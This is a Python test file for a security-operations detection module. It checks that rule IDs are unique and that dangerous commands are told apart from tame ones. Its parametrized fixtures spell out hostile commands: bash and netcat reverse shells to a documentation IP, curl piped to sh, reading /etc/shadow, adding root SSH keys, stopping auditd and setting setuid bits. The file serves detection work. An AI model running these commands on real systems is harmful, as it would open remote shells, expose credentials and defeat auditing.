import re

import polars as pl
import pytest

from soc_copilot.detection.auth import rules
from soc_copilot.domain.attack import technique_name


def test_ids_are_unique_and_techniques_known():
    assert len(rules.BY_ID) == len(rules.RULES)
    for rule in rules.RULES:
        assert re.fullmatch(r"auth\.[a-z-]+", rule.id)
        assert technique_name(rule.technique)
        assert rule.reason.endswith(".")
        assert rule.next_steps


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("/bin/bash -c bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "network shell"),
        ("/bin/nc 192.0.2.1 9 -e /bin/sh", "network shell"),
        ("/bin/sh -c curl http://x/ | sh", "network shell"),
        ("/bin/systemctl stop auditd", "audit trail"),
        ("/usr/sbin/visudo", "sudoers"),
        ("/bin/cat /etc/shadow", "passwords"),
        ("/usr/bin/tee -a /root/.ssh/authorized_keys", "login keys"),
        ("/bin/chmod u+s /tmp/x", "set-user-id"),
        ("/bin/chmod 4755 /tmp/x", "set-user-id"),
        ("/bin/chmod 0755 /srv/x", None),
        ("/bin/chmod 755 /srv/x", None),
        ("/usr/bin/apt-get install nc", None),
        ("/usr/bin/curl -L -O https://example.org/a.deb", None),
        ("/bin/systemctl restart nginx", None),
    ],
)
def test_dangerous_commands_are_told_from_tame_ones(command, kind):
    found = [
        name
        for name, (pattern, _) in rules.DANGERS.items()
        if pl.Series([command]).str.contains(pattern).item()
    ]
    assert found[:1] == ([kind] if kind else [])
